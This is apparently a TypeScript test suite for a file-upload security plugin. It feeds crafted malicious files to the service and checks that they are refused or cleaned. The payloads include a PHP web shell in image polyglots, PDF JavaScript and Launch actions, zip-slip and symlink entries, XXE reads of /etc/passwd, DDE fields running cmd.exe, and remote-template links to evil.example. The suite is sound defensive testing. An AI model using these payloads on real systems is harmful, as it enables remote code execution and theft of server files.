/** What is in the files: bombs, polyglots, metadata, active content, archives. Each attack beside the same bytes as they came. */
import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { deflateSync } from 'node:zlib'
import multipart from '@fastify/multipart'
import Fastify from 'fastify'
import sharp from 'sharp'
import t, { type Test } from 'tap'
import { fromBuffer, type Entry, type ZipFile } from 'yauzl'
import type { UploadScanner } from '../../plugins/uploads/index.js'
import { build, CODES, folderOf, MIB } from './build.js'
import { bombOf, CONTENT_TYPES, docx, DOCX_TYPE, formOf, IMAGE_TYPES, pdf, picture, relationship, relationships, stream, zipOf, type Format, type Part, type ZipEntry } from './forms.js'

const image = (format: Format, content: Buffer) => ({ filename: `a.${format}`, type: IMAGE_TYPES[format], content })
const document = (content: Buffer) => ({ filename: 'a.pdf', type: 'application/pdf', content })
const TEMPLATE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
const word = (content: Buffer) => ({ filename: 'a.docx', type: DOCX_TYPE, content })

/** What a service gets of this file by the official plugin, wired as its documentation shows. */
async function takenByOfficial (t: Test, part: Part): Promise<Buffer> {
  const app = Fastify()
  t.teardown(() => app.close())
  await app.register(multipart, { limits: { fileSize: 10 * MIB } })
  let taken: Buffer = Buffer.alloc(0)
  app.post('/', async request => {
    taken = await (await request.file())!.toBuffer()
    return 'taken'
  })
  const { body, type } = formOf([part])
  t.equal((await app.inject({ method: 'POST', url: '/', headers: { 'content-type': type }, payload: body })).statusCode, 200)
  return taken
}

/** Each entry where its name says, and links as links: an archive as it is unpacked by who trusts it. */
async function unpack (archive: Buffer, folder: string): Promise<number> {
  const zip = await new Promise<ZipFile>((resolve, reject) => {
    fromBuffer(archive, { lazyEntries: true, decodeStrings: false }, (error, opened) => { if (error === null) resolve(opened); else reject(error) })
  })
  let bytes = 0
  for await (const entry of entriesOf(zip)) {
    const content = await buffer(await new Promise<NodeJS.ReadableStream>((resolve, reject) => { zip.openReadStream(entry, (error, inflated) => { if (error === null) resolve(inflated); else reject(error) }) }))
    const path = join(folder, String(entry.fileName))
    mkdirSync(dirname(path), { recursive: true })
    if (entry.externalFileAttributes >>> 16 === 0o120777) symlinkSync(String(content), path)
    else writeFileSync(path, content)
    bytes += content.length
  }
  return bytes
}

async function * entriesOf (zip: ZipFile): AsyncGenerator<Entry> {
  const next = () => new Promise<Entry | null>((resolve, reject) => {
    zip.once('entry', resolve).once('end', () => { resolve(null) }).once('error', reject)
    zip.readEntry()
  })
  for (let entry = await next(); entry !== null; entry = await next()) yield entry
}

t.test('a decompression bomb is refused by its header, in no time and no memory [ASVS 5.2.6]', async t => {
  const { send, stored, handled } = await build(t)
  const small = bombOf(50_000, 50_000)
  t.ok(small.length < 20_000, `${small.length} bytes that say they are 7.5 GB`)
  t.equal((await sharp(small, { limitInputPixels: false }).metadata()).width, 50_000, 'the control: it would be decoded')
  for (const [width, height] of [[50_000, 50_000], [4001, 10], [10, 4001], [100_000, 1], [2_147_483_647, 2_147_483_647], [0, 10]] as const) {
    const before = process.memoryUsage().rss
    const since = performance.now()
    t.match(await send('/image', image('png', bombOf(width, height))), { status: 400, code: CODES.content }, `${width} × ${height}`)
    t.ok(performance.now() - since < 2000, `after ${Math.round(performance.now() - since)} ms`)
    t.ok(process.memoryUsage().rss - before < 100 * MIB)
  }
  t.equal((await send('/image', image('png', await picture('png', 4000, 2)))).status, 201, 'the largest width that is taken')
  t.equal(handled(), 1)
  t.equal(stored().length, 1)
})

t.test('animations: their frames count together, and may be few or none [ASVS 5.2.6]', async t => {
  const { send } = await build(t, {}, {
    '/few': { kinds: ['gif', 'webp'], maxBytes: MIB, maxFrames: 5, maxPixels: 100 * 100 * 5 }, '/still': { kinds: ['gif', 'webp', 'png'], maxBytes: MIB, maxFrames: 1 },
  })
  const moving = async (format: 'gif' | 'webp', frames: number, size = 100) =>
    sharp(await Promise.all(Array.from({ length: frames }, async (_none, i) => sharp({ create: { width: size, height: size, channels: 3, background: { r: i * 20, g: 0, b: 0 } } }).png().toBuffer())), { join: { animated: true } }).toFormat(format).toBuffer()
  for (const format of ['gif', 'webp'] as const) {
    const kept = await send('/few', image(format, await moving(format, 4)))
    t.match(kept, { status: 201, body: { width: 100, height: 100 } }, format)
    t.equal((await send('/few', image(format, await moving(format, 6)))).code, CODES.content, 'too many')
    t.equal((await send('/few', image(format, await moving(format, 4, 120)))).code, CODES.content, 'too many pixels in all of them')
    t.equal((await send('/still', image(format, await moving(format, 2)))).code, CODES.content)
    t.equal((await send('/still', image(format, await picture(format)))).status, 201)
  }
})

t.test('metadata is gone: place, camera, comments, profiles; the picture stands upright', async t => {
  const { send, folder } = await build(t)
  for (const format of ['jpeg', 'png', 'webp'] as const) {
    const tagged = await sharp(await picture(format, 60, 20)).withExif({ IFD0: { Artist: 'SECRET-ARTIST' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 3230/100' } }).withMetadata({ orientation: 6, icc: 'p3' }).toFormat(format).toBuffer()
    const sent = await sharp(tagged).metadata()
    t.ok(sent.exif !== undefined && sent.icc !== undefined && tagged.includes('SECRET-ARTIST'), `the control: ${format} carries it`)
    const { status, body } = await send('/image', image(format, tagged))
    t.equal(status, 201)
    t.match(body, { width: 20, height: 60 }, 'turned')
    const bytes = readFileSync(join(folder, body.name))
    const { exif, icc, xmp, iptc, orientation } = await sharp(bytes).metadata()
    t.strictSame([exif, icc, xmp, iptc, orientation].map(part => part === undefined), [true, true, true, true, true], format)
    t.notOk(bytes.includes('SECRET-ARTIST'))
  }
})

t.test('polyglots are pictures and nothing else once they are stored [ASVS 5.2.2]', async t => {
  const { send, folder } = await build(t)
  const script = Buffer.from('<?php system($_GET["c"]); ?><script>alert(1)</script>')
  const zip = zipOf([{ name: 'evil.html', content: script, stored: true }])
  const gif = await picture('gif', 20, 20)
  const jpeg = await picture('jpeg', 20, 20)
  // The first bytes of a GIF are its size, too: as a script it is the assignment to a variable.
  const scripted = Buffer.concat([gif.subarray(0, gif.length - 1), Buffer.from([0x21, 0xfe, script.length]), script, Buffer.from([0, 0x3b])])
  const commented = Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, script.length + 2]), script, jpeg.subarray(2)])
  for (const [format, content] of [
    ['png', Buffer.concat([await picture('png', 20, 20), zip])], ['jpeg', Buffer.concat([jpeg, script])], ['jpeg', commented], ['gif', scripted], ['gif', Buffer.concat([gif, script])], ['webp', Buffer.concat([await picture('webp', 20, 20), script])],
  ] as const) {
    t.ok(content.includes('<?php'), 'the control: as it came it is both')
    const { status, body } = await send('/image', image(format, content))
    t.equal(status, 201, format)
    const bytes = readFileSync(join(folder, body.name))
    t.notOk(bytes.includes('<?php') || bytes.includes('<script') || bytes.includes('PK\x03\x04'), format)
  }
  t.equal((await send('/image', image('gif', Buffer.from('GIF89a/*\n*/=1;alert(1)//')))).status >= 400, true)
})

t.test('what does not decode is a 400: cut, damaged, empty', async t => {
  const { send, stored } = await build(t)
  for (const format of ['jpeg', 'png', 'gif', 'webp'] as const) {
    const whole = await picture(format, 100, 100)
    for (const length of [Math.floor(whole.length / 2), 64, 30]) t.ok([400, 415].includes((await send('/image', image(format, whole.subarray(0, length)))).status), `${format}, ${length} bytes`)
  }
  t.ok([400, 415].includes((await send('/image', image('png', Buffer.alloc(0)))).status), 'no bytes')
  t.strictSame(stored(), [])
})

t.test('a PDF with active content is refused, however its name is written and wherever it stands', async t => {
  const { send, stored, handled } = await build(t)
  const action = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
  const packed = (text: string, dictionary = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode', encode = deflateSync as (bytes: Buffer) => Buffer) => pdf({ objects: [stream(dictionary, text, encode)] })
  const hex = (text: string) => `${Buffer.from(text).toString('hex')}>`
  const attacks: Record<string, Buffer> = {
    'an action when it opens': pdf({ catalog: `/OpenAction ${action}` }),
    'an action when it opens, elsewhere': pdf({ catalog: '/OpenAction 4 0 R' }),
    'an action when it opens, behind a comment': pdf({ catalog: '/OpenAction%[\n4 0 R' }),
    'an action when it opens, in the next piece': pdf({ objects: [`(${'x'.repeat(65_536 - pdf().indexOf('xref') - 12 - 20)})`, '<</OpenAction 4 0 R>>'] }),
    'an action when it opens, far behind': pdf({ catalog: `/OpenAction${' '.repeat(300)}4 0 R` }),
    'escaped names': pdf({ objects: ['<</S/J#61va#53cript/J#53(x)>>'] }),
    'every letter escaped': pdf({ catalog: '/#4fpen#41ction 4 0 R' }),
    'a name tree': pdf({ catalog: '/Names<</JavaScript 4 0 R>>', objects: [action] }),
    'a script alone': pdf({ objects: ['<</JS(x)>>'] }),
    'more actions': pdf({ catalog: '/AA<</WC 4 0 R>>' }),
    'a program': pdf({ objects: ['<</S/Launch/F(calc.exe)>>'] }),
    'a file in it': pdf({ objects: ['<</Type/EmbeddedFile>>'] }),
    'a form that is sent': pdf({ objects: ['<</S/SubmitForm/F(http://x)>>'] }),
    'an XFA form': pdf({ catalog: '/AcroForm<</XFA[]>>' }),
    'in an object stream': packed(`4 0 ${action}`),
    'escaped in an object stream': packed('4 0 <</S/#4aavaScript>>'),
    'in a stream that does not say what it is': packed(`4 0 ${action}`, '/N 1/First 4/Filter/FlateDecode'),
    'across the pieces in which it is inflated': packed(`${' '.repeat(16_380)}${action}`),
    'across the pieces in which it is read': pdf({ objects: [`(${'x'.repeat(65_536 - pdf().indexOf('xref') - 12)})`, action] }),
    'in a comment, a string, a stream': pdf({ objects: [stream('', `% ${action}`, bytes => bytes)] }),
    'an object stream behind another filter': packed('zz', '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]'),
    'an object stream with a predictor': packed('zz', '/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>'),
    'an object stream whose dictionary holds a text with obj in it': packed(hex(`4 0 ${action}`), '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/X(obj)', bytes => bytes),
    'an object stream whose dictionary is long': packed(hex(`4 0 ${action}`), `/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/X(${'x'.repeat(5000)})`, bytes => bytes),
    'an object stream whose dictionary is longer than is looked at': packed(hex(`4 0 ${action}`), `/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/X(${'x'.repeat(70_000)})`, bytes => bytes),
    'an object stream whose dictionary has a comment': packed(hex(`4 0 ${action}`), '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode% 9 0 obj <<\n', bytes => bytes),
    'an object stream whose dictionary holds the head of another': packed(hex(`4 0 ${action}`), '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/X(\n9 0 obj\n<<)', bytes => bytes),
    'an object stream whose filter stands elsewhere': packed(hex(`4 0 ${action}`), '/Type/ObjStm/N 1/First 4/Filter 5 0 R', bytes => bytes),
    'an object stream without its type': packed(hex(`4 0 ${action}`), '/N 1/First 4/Filter/ASCIIHexDecode', bytes => bytes),
    'an object stream that is deflated twice': packed(`4 0 ${action}`, '/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]', bytes => deflateSync(deflateSync(bytes))),
    'a stream that begins behind a space': Buffer.from(packed(`4 0 ${action}`).toString('latin1').replace('>>\nstream\n', '>>\nstream \n'), 'latin1'),
    'a stream that begins behind a comment': pdf({ objects: [Buffer.concat([Buffer.from('<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>%\nstream x\n'), deflateSync(`4 0 ${action}`), Buffer.from('\nendstream')])] }),
    'more actions, behind what looks like a stream': pdf({ objects: ['<<>>\nstream\n', '<</AA <</O 4 0 R>>>>'] }),
    'more actions, in an object stream': packed('4 0 <</AA 5 0 R>>'),
    'a script of three dimensions': pdf({ objects: ['<</Type/3D/OnInstantiate 5 0 R>>'] }),
    'encrypted, behind what looks like a stream': pdf({ objects: ['<<>>\nstream\n'], trailer: '/Encrypt 4 0 R' }),
    encrypted: pdf({ trailer: '/Encrypt 4 0 R' }),
  }
  for (const [what, content] of Object.entries(attacks)) t.match(await send('/document', document(content)), { status: 400, code: CODES.active }, what)
  t.equal(handled(), 0)
  t.strictSame(stored(), [])
  for (let offset = -40; offset <= 40; offset++) {
    const before = pdf({ objects: ['()', action] }).indexOf('/JavaScript') + 0
    const content = pdf({ objects: [`(${'x'.repeat(65_536 - before + offset)})`, action] })
    if ((await send('/document', document(content))).code !== CODES.active) t.fail(`at ${offset} of a chunk`)
  }
  for (const content of [
    pdf(), packed('4 0 <</Type/Font/BaseFont/Helvetica>>'), pdf({ catalog: '/OpenAction [4 0 R /XYZ null null 0]' }), pdf({ catalog: '/OpenAction[4 0 R/Fit]' }),
    pdf({ objects: [stream('/Filter/FlateDecode', Buffer.alloc(MIB, 'BT /F1 12 Tf (JavaScript) Tj ET\n'))] }),
    pdf({ objects: [stream('/Type/Metadata', '<x>the upstream\nof 100% video stream\r</x> % Object stream: 2', bytes => bytes)] }),
    pdf({ objects: [stream(`/ColorSpace[/Indexed/DeviceRGB 3(a\\(b%${'\\)'.repeat(4000)})]/DecodeParms<</Predictor 12>>/Filter[/ASCII85Decode/FlateDecode]`, 'x')] }),
    pdf({ objects: [stream('/Type/XRef/W[1 2 1]/Filter/FlateDecode/DecodeParms<</Columns 4/Predictor 12>>', 'xxxx'), stream('/Type/ObjStm/N 1/First 4/Filter [ /FlateDecode ]', '4 0 <</Type/Font>>')] }),
  ]) {
    t.equal((await send('/document', document(content))).status, 201, 'one without')
  }
  const keeping = await build(t, {}, { '/document': { kinds: ['pdf', 'docx'], maxBytes: MIB, active: 'keep' } })
  for (const [what, content] of Object.entries(attacks)) t.equal((await keeping.send('/document', document(content))).status, 201, `the control, active: 'keep': ${what}`)
})

t.test('a PDF has its frame: what is before, behind or missing is a 400', async t => {
  const { send } = await build(t)
  const whole = pdf()
  for (const [what, content] of Object.entries({
    'cut in the middle': whole.subarray(0, whole.length / 2),
    'without an end': whole.subarray(0, whole.indexOf('startxref')),
    'with an archive behind': Buffer.concat([whole, zipOf([{ name: 'a', content: 'b' }])]),
    'with a script behind': pdf({ after: '<script>alert(1)</script>' }),
    'nothing between beginning and end': Buffer.from('%PDF-1.7\n%%EOF\n'),
    'a page in its frame': Buffer.from('%PDF-1.7\n<html><script>alert(1)</script></html>\ntrailer <<>>\n%%EOF\n'),
    'nothing but a beginning': Buffer.from('%PDF-1.7\n'),
  })) t.match(await send('/document', document(content)), { status: 400, code: CODES.content }, what)
  for (const content of [Buffer.concat([Buffer.from('<html>'), whole]), Buffer.concat([Buffer.from('\n\n'), whole])]) t.ok([400, 415].includes((await send('/document', document(content))).status), 'something before')
  t.equal((await send('/document', document(pdf({ after: '\r\n\n' })))).status, 201, 'line ends behind are harmless')
  const without = (content: Buffer) => [content.toString('latin1').replace(/startxref\n\d+/, 'startxref\n5'), content.toString('latin1').replace(/startxref\n\d+/, 'startxref\n999999'), content.toString('latin1').replace(/startxref\n\d+\n/, '')].map(text => Buffer.from(text, 'latin1'))
  const smallest = '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/MediaBox[0 0 3 3]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF'
  for (const content of [...without(whole), Buffer.from(smallest)]) t.equal((await send('/document', document(content))).status, 201, 'readers do without the table')
  for (const content of without(pdf({ objects: ['<</S/JavaScript/JS(app.alert\\(1\\))>>'] }))) t.match(await send('/document', document(content)), { status: 400, code: CODES.active }, 'and would run what is in it')
})

t.test('a PDF whose streams inflate to more than is allowed is refused, and soon [ASVS 5.2.3]', async t => {
  const { send } = await build(t, {}, { '/document': { kinds: ['pdf'], maxBytes: 10 * MIB, maxInflated: 20 * MIB } })
  const since = performance.now()
  const zeros = deflateSync(Buffer.alloc(64 * MIB))
  t.match(await send('/document', document(pdf({ objects: [stream('/Filter/FlateDecode', zeros, bytes => bytes)] }))), { status: 400, code: CODES.content })
  t.ok(performance.now() - since < 5000)
  t.equal((await send('/document', document(pdf({ objects: [stream('/Filter/FlateDecode', Buffer.alloc(10 * MIB))] })))).status, 201)
})

t.test('an archive that is no document, or leaves its folder, or is one in part, is refused [ASVS 5.2.3] [ASVS 5.2.5] [ASVS 5.3.3]', async t => {
  const { send, stored, handled } = await build(t, {}, { '/document': { kinds: ['docx'], maxBytes: 10 * MIB, maxInflated: 20 * MIB, maxEntries: 50 } })
  const evil = (entry: Partial<ZipEntry>) => docx([{ name: 'word/x.xml', content: '<x/>', ...entry }])
  const { body } = await send('/document', word(docx()))
  t.match(body, { type: DOCX_TYPE, originalName: 'a.docx' })
  for (const [what, content] of Object.entries({
    'inflates to more than is allowed': evil({ content: Buffer.alloc(30 * MIB) }),
    'inflates a thousand times': evil({ content: Buffer.alloc(10 * MIB) }),
    'says less than it inflates to': evil({ content: Buffer.alloc(5 * MIB), claims: 100 }),
    'says more than it inflates to': evil({ content: 'abc', claims: 1000 }),
    'many entries': docx(Array.from({ length: 60 }, (_none, i) => ({ name: `word/${i}.xml` }))),
    'a way up': evil({ name: '../../evil.xml' }),
    'a way up inside': evil({ name: 'word/../../../evil.xml' }),
    'an absolute name': evil({ name: '/etc/cron.d/evil' }),
    'a drive': evil({ name: 'C:/evil.xml' }),
    backslashes: evil({ name: '..\\..\\evil.xml' }),
    'a control character': evil({ name: 'word/a\0b.xml' }),
    'a symlink': evil({ name: 'word/link', content: '/etc/passwd', mode: 0o120777 }),
    'a device': evil({ name: 'word/device', mode: 0o060644 }),
    'an encrypted entry': evil({ flags: 0x801 }),
    'another compression': evil({ method: 12 }),
    'an entry twice': zipOf([...['[Content_Types].xml', 'word/document.xml', 'word/document.xml'].map(name => ({ name, content: CONTENT_TYPES }))]),
    'an entry twice, in another case': evil({ name: 'Word/Document.xml' }),
    'no document': zipOf([{ name: '[Content_Types].xml', content: CONTENT_TYPES }]),
    'no types': zipOf([{ name: 'word/document.xml', content: '<x/>' }]),
    'entities in its XML': evil({ content: '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>' }),
    'XML in UTF-16': evil({ content: Buffer.from('\uFEFF<!DOCTYPE x>', 'utf16le') }),
    'something behind it': Buffer.concat([docx(), Buffer.from('<script>alert(1)</script>')]),
    'a comment': docx([], { comment: '<script>alert(1)</script>' }),
    'cut in the middle': docx().subarray(0, 400),
    'a second directory': twoDirectories(docx(), docx([{ name: 'word/vbaProject.bin', content: 'x' }])),
    'an entry that is in no directory': hiddenIn(docx(), zipOf([{ name: 'word/vbaProject.bin', content: 'x' }])),
    'two names for one entry': evil({ name: 'word/_rels/settings.xml.rels', content: relationship('attachedTemplate', 'http://evil.example/x.dotm', 'External'), path: 'word/x.dat' }),
    'XML of another encoding': evil({ content: '<?xml version="1.0" encoding="UTF-7"?><x/>' }),
    'XML in EBCDIC': evil({ content: Buffer.from('4c6fa7949340a5859989a296957e7ff14bf07f6f6e', 'hex') }),
    'no directory': Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100)]),
  })) t.match(await send('/document', word(content)), { status: 400, code: CODES.content }, what)
  const workbook = docx([{ name: '[Content_Types].xml', content: CONTENT_TYPES.replace('wordprocessingml.document.main', 'spreadsheetml.sheet.main') }])
  t.equal((await send('/document', word(workbook))).status, 415, 'a workbook')
  t.equal(handled(), 1)
  t.equal(stored().length, 1)
  t.equal((await send('/document', word(docx([{ name: '[Content_Types].xml', content: '<Types/>' }])))).status, 201, 'one that says nothing of its parts')
})

t.test('negative control: the official plugin takes such archives, and who unpacks them has what they bring where they want it', async t => {
  const outside = folderOf(t)
  const folder = join(outside, 'deep/er')
  writeFileSync(join(outside, 'secret'), 'root:x:0:0')
  const unpacked = async (entry: ZipEntry) => unpack(await takenByOfficial(t, word(docx([entry]))), folder)
  t.ok(await unpacked({ name: 'word/x.xml', content: Buffer.alloc(30 * MIB) }) > 30 * MIB, 'it inflates to more than three times what may be uploaded')
  await unpack(await takenByOfficial(t, word(docx(Array.from({ length: 60 }, (_none, i) => ({ name: `many/${i}.xml` }))))), folder)
  t.equal(readdirSync(join(folder, 'many')).length, 60, 'to as many files as it likes')
  await unpacked({ name: '../../evil.xml', content: 'evil' })
  t.equal(readFileSync(join(outside, 'evil.xml'), 'utf8'), 'evil', 'outside of its folder')
  await unpacked({ name: 'word/link', content: join(outside, 'secret'), mode: 0o120777 })
  t.equal(readFileSync(join(folder, 'word/link'), 'utf8'), 'root:x:0:0', 'and to links that lead to what is there')
})

t.test('attack: XML that names a file of the server is refused in whichever part of a document it stands [ASVS 1.5.1]', async t => {
  const { send, stored, handled } = await build(t)
  const external = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
  for (const name of ['word/document.xml', '[Content_Types].xml', '_rels/.rels', 'word/_rels/document.xml.rels', 'word/more.xml', 'customXml/item1.xml']) {
    for (const content of [
      external, `<?xml version="1.0"?>\n${external}`, `\uFEFF${external}`, `<!-- x -->${external}`, external.replace('DOCTYPE', 'doctype'), external.replace('SYSTEM', 'PUBLIC "x"'),
      '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>', '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]><x/>', Buffer.from(`\uFEFF${external}`, 'utf16le'),
      `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(100)}">${Array.from({ length: 8 }, (_none, i) => `<!ENTITY a${i} "${`&a${i === 0 ? '' : i - 1};`.repeat(10)}">`).join('')}]><x>&a7;</x>`,
    ]) t.match(await send('/document', word(docx([{ name, content }]))), { status: 400, code: CODES.content }, `${name}: ${String(content).slice(0, 40)}`)
  }
  t.equal(handled(), 0)
  t.strictSame(stored(), [])

  const folder = folderOf(t)
  await unpack(await takenByOfficial(t, word(docx([{ name: 'word/document.xml', content: external }]))), folder)
  t.equal(readFileSync(join(folder, 'word/document.xml'), 'utf8'), external, 'the control: the official plugin takes it, and hands it as it is to whatever reads XML next')
})

t.test('attack: drawings with scripts are not taken, under no name and in no wrapping [ASVS 1.3.4]', async t => {
  const { send, folder, stored, handled } = await build(t)
  const script = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>'
  const drawings = [script, `<?xml version="1.0"?>\n${script}`, `\uFEFF${script}`, `<!-- -->${script}`, `<!DOCTYPE svg>${script}`, deflateSync(script), Buffer.from(`\uFEFF${script}`, 'utf16le'), script.replaceAll('svg', 'x:svg')]
  for (const content of drawings.map(text => Buffer.from(text as string))) {
    for (const [filename, type] of [['a.svg', 'image/svg+xml'], ['a.svgz', 'image/svg+xml'], ['a.png', 'image/svg+xml'], ['a.svg', 'image/png'], ['a.png', 'image/png'], ['a.jpg', 'image/jpeg'], ['a.svg.png', 'image/png'], ['a.xml', 'text/xml']] as const) {
      t.match(await send('/image', { filename, type, content }), { status: 415, code: CODES.type }, `${filename} ${type}`)
    }
  }
  t.equal(handled(), 0)
  t.strictSame(stored(), [])
  const { body, status } = await send('/image', image('png', Buffer.concat([await picture('png'), Buffer.from(script)])))
  t.equal(status, 201)
  t.equal(body.type, 'image/png')
  t.notOk(readFileSync(join(folder, body.name)).includes('<svg'), 'of one that is behind a picture nothing is left')

  const taken = await takenByOfficial(t, { filename: 'a.svg', type: 'image/svg+xml', content: script })
  const host = Fastify()
  t.teardown(() => host.close())
  host.get('/a.svg', async (_request, reply) => reply.type('image/svg+xml').send(taken))
  const shown = await host.inject('/a.svg')
  t.match([shown.body, shown.headers['content-security-policy'], shown.headers['content-disposition']], [script, undefined, undefined], 'the control: the official plugin takes it, and what is served of it runs')
})

/** The end tells where one directory is, and how long the other one, in front of which it stands. */
function twoDirectories (shown: Buffer, other: Buffer): Buffer {
  const end = Buffer.from(shown.subarray(-22))
  other.copy(end, 12, other.length - 10, other.length - 6)
  return Buffer.concat([shown.subarray(0, -22), other.subarray(0, -22), end])
}

function hiddenIn (shown: Buffer, other: Buffer): Buffer {
  const directory = shown.readUInt32LE(shown.length - 6)
  const hidden = other.subarray(0, other.readUInt32LE(other.length - 6))
  const whole = Buffer.concat([shown.subarray(0, directory), hidden, shown.subarray(directory)])
  whole.writeUInt32LE(directory + hidden.length, whole.length - 6)
  return whole
}

t.test('a document with macros, or one that Word would complete from elsewhere, is refused', async t => {
  const { send, handled } = await build(t)
  const rels = 'word/_rels/document.xml.rels'
  const attacks: Record<string, Buffer> = {
    macros: docx([{ name: 'word/vbaProject.bin', content: 'x' }]),
    'macros elsewhere': docx([{ name: 'word/other/VBAPROJECT.BIN', content: 'x' }]),
    'a type of macros': docx([{ name: '[Content_Types].xml', content: CONTENT_TYPES.replace('</Types>', '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/></Types>') }]),
    'an embedded object': docx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
    ActiveX: docx([{ name: 'word/activeX/activeX1.xml', content: '<x/>' }]),
    'a template from elsewhere': docx([{ name: rels, content: relationship('attachedTemplate', 'http://evil.example/x.dotm', 'External') }]),
    'its type written otherwise': docx([{ name: rels, content: relationship('attached&#84;emplate', 'http://evil.example/x.dotm', 'External') }]),
    'its mode written otherwise': docx([{ name: rels, content: relationship('frame', 'http://evil.example/', '&#69;xternal') }]),
    'a picture from elsewhere': docx([{ name: rels, content: relationship('image', 'file://evil.example/share/x.png', 'External') }]),
    ...Object.fromEntries(Object.entries({
      'a type inside of a target': `<Relationship Id="r" Target="http://e/x.dotm?Type='/hyperlink'" Type="${TEMPLATE}" TargetMode="External"/>`,
      'a mode inside of a target': `<Relationship Id="r" Target="http://e/x.dotm?TargetMode='Internal'" Type="${TEMPLATE}" TargetMode="External"/>`,
      'an end inside of a target': `<Relationship Id="r" Target="http://e/x.dotm?a>b" Type="${TEMPLATE}" TargetMode="External"/>`,
      'a prefix of other letters': `<é.x:Relationship xmlns:é.x="x" Id="r" Target="http://e/x.dotm" Type="${TEMPLATE}" TargetMode="External"/>`,
      'a type of another namespace': `<Relationship xmlns:x="x" x:Type="http://x/hyperlink" Id="r" Target="http://e/x.dotm" Type="${TEMPLATE}" TargetMode="External"/>`,
      'a template from elsewhere that is called internal': `<Relationship Id="r" Target="http://e/x.dotm" Type="${TEMPLATE}"/>`,
      'a part of another format': '<Relationship Id="r" Target="x.rtf" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"/>',
      'a package in another folder': '<Relationship Id="r" Target="x.xlsx" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package"/>',
      'a pane of an add-in': '<Relationship Id="r" Target="x.xml" Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"/>',
    }).map(([what, inner]) => [what, docx([{ name: rels, content: relationships(inner) }])])),
    ...Object.fromEntries(Object.entries({
      'a field that runs a program': '<w:instrText> DDEAUTO c:\\cmd.exe "/k calc" </w:instrText>',
      'its name in two runs': '<w:r><w:instrText>dd</w:instrText></w:r><w:r><w:instrText xml:space="preserve">e c:\\cmd.exe</w:instrText></w:r>',
      'a field in one element': "<w:fldSimple w:instr=' DDE \"c:\\cmd.exe\"'/>",
      'a field in numbered signs': '<w:instrText>&#68;DEAUTO x</w:instrText>',
      'a field as it stands': '<w:instrText><![CDATA[DDEAUTO x]]></w:instrText>',
      'a field that fetches': '<w:instrText>INCLUDEPICTURE "\\\\evil.example\\a.png" \\d</w:instrText>',
      'a field behind much text': `<w:t>${Array.from({ length: 300_000 }, (_none, i) => `<w:t>${Math.sin(i)}</w:t>`).join('')}<w:instrText>DDE x</w:instrText>`,
    }).map(([what, inner]) => [what, docx([{ name: 'word/document.xml', content: `<w:document xmlns:w="x"><w:body>${inner}</w:body></w:document>` }])])),
    'an object from elsewhere': docx([{ name: rels, content: relationship('oleObject', 'mhtml:http://evil.example/x.html!x', 'External') }]),
  }
  for (const [what, content] of Object.entries(attacks)) t.match(await send('/document', word(content)), { status: 400, code: CODES.active }, what)
  t.equal(handled(), 0)
  const harmless = '<w:fldChar/><w:instrText> HYPERLINK "https://x/?a=1&amp;b=added" </w:instrText><w:fldChar/><w:instrText> PAGE </w:instrText><w:fldSimple w:instr=" NUMPAGES "/>'
  t.equal((await send('/document', word(docx([{ name: 'word/header1.xml', content: `<w:hdr xmlns:w="x">${harmless}</w:hdr>` }])))).status, 201, 'fields that only count')
  const keeping = await build(t, {}, { '/document': { kinds: ['docx'], maxBytes: 10 * MIB, active: 'keep' } })
  for (const [what, content] of Object.entries(attacks)) t.equal((await keeping.send('/document', word(content))).status, 201, `the control, active: 'keep': ${what}`)
})

t.test('a scanner that refuses, fails, or does not answer keeps the file out', async t => {
  const part = document(pdf())
  const seen: string[] = []
  const answers: Record<string, UploadScanner['scan']> = {
    clean: async ({ path, name, size }) => {
      seen.push(`${name} ${size} ${readFileSync(path).length}`)
      return null
    },
    infected: async () => 'Eicar-Test-Signature',
    fails: async () => { throw new Error('connection refused') },
    silent: () => new Promise(() => {}),
  }
  for (const [what, status, code] of [['clean', 201, undefined], ['infected', 400, CODES.scan], ['fails', 503, CODES.unscanned], ['silent', 503, CODES.unscanned]] as const) {
    const { send, stored, events } = await build(t, { scanner: { scan: answers[what]! }, scanTimeoutMs: 50 })
    const answer = await send('/document', part)
    t.equal(answer.status, status, what)
    t.notMatch(JSON.stringify(answer.body), /Eicar|connection refused/)
    if (code !== undefined) t.equal(answer.code, code)
    t.equal(stored().length, status === 201 ? 1 : 0)
